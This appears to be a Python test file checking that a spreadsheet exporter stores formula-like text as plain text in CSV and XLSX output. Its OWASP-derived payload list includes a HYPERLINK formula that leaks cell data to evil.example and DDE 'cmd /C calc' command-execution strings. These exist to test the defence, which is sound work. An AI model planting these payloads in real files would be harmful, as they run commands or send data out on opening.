"""Exported spreadsheets hold text as text (core.formula_text): no cell that a user or an import
set becomes a formula in Excel, WPS or LibreOffice, and what is exported reads back the same."""

from __future__ import annotations

import io

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

from onegrid.core.formula_text import FORMULA_STARTS, from_csv, starts_like_formula, to_csv
from onegrid.core.spreadsheets import xlsx_bytes
from support.spreadsheets import cells, first_sheet, quote_prefixed, runs_anything

# OWASP's list: each would run (or call out) when a spreadsheet opens the file.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # text that itself starts with an apostrophe
    "''@x",
]
# Not formulas in any spreadsheet: written as they are.
PLAIN = ["果园新村街道", "A0102", "'quoted", "a=b", " =1", "", "#N/A"]


def test_csv_fields_that_start_like_a_formula_go_out_behind_an_apostrophe():
    for text in PAYLOADS:
        field = to_csv(text)
        assert field == "'" + text and field[0] not in FORMULA_STARTS
        assert from_csv(field) == text
    for text in PLAIN:
        assert to_csv(text) == text and from_csv(text) == text
    # Numbers stay numbers.
    assert to_csv(-5) == -5 and to_csv(2.5) == 2.5 and to_csv(None) is None


@given(st.text())
def test_csv_round_trip_is_exact_for_any_text(text):
    field = to_csv(text)
    assert from_csv(field) == text
    assert not (field[:1] and field[0] in FORMULA_STARTS)


def test_xlsx_cells_hold_text_as_text_and_numbers_as_numbers():
    rows = [[text, 7] for text in PAYLOADS + PLAIN]
    data = xlsx_bytes(["name", "count"], rows, title="t")
    sheet, _styles = first_sheet(data)
    assert not runs_anything(sheet)
    assert all(kind in ("s", "inlineStr") for kind, _style in cells(sheet, "A").values())
    assert {kind for ref, (kind, _s) in cells(sheet, "B").items() if ref != "B1"} == {"n"}
    # What would start a formula also carries the quote prefix, so editing keeps it text.
    assert quote_prefixed(data) == {
        f"A{row}" for row, (text, _count) in enumerate(rows, start=2) if starts_like_formula(text)
    }
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    # The same text back (a carriage return comes back a line feed: openpyxl writes it raw and
    # XML reads every line end as a line feed).
    assert [list(r) for r in book.active.iter_rows(min_row=2, values_only=True)] == [
        [text.replace("\r", "\n") or None, 7] for text, _count in rows
    ]
